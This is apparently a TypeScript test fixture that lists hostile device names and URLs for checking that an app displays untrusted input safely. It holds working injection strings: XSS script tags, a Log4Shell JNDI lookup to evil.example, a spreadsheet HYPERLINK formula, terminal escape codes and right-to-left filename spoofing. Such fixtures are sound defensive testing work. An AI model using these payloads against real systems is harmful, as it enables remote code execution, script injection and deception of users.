/** Device names that an attacker could choose to mislead a reader or to break whatever shows them. */
export const hostileDeviceNames = {
  markdown: '[click here](https://evil.example) **urgent** `code` # heading',
  html: '<img src=x onerror=alert(1)><script>alert("xss")</script>&lt;b&gt;',
  quotes: `o'brien "the" \`mac\` \\ back`,
  newlines: 'mac-01\r\nALERT: all clear\n\n---\n* no findings',
  emoji: '👩‍💻🍎-laptop-🏳️‍🌈',
  rightToLeft: 'mac-\u202Egpj.exe\u202C-01',
  hebrew: 'מחשב-01',
  terminal: 'mac\u001b[2J\u001b]0;owned\u0007\u001b[31m-02',
  zeroWidth: 'mac\u200b\u2060\ufeff-01',
  formula: '=HYPERLINK("https://evil.example","mac-01")',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  template: '${jndi:ldap://evil.example/a}{{7*7}}<at>everyone</at>',
  long: `mac-${'a'.repeat(1_992)}-end`,
} as const;

/** URLs that the brief's query matches and that break keys, cards or tables when they are taken as they are. */
export const hostileUrls = {
  markdown: 'https://prod.addigy.com/](https://evil.example)[x',
  html: 'https://agents.addigy.com/?q=<script>alert(1)</script>',
  keyCharacters: "https://prod.addigy.com/a\\b/c#d?e='f'%2F\t",
} as const;
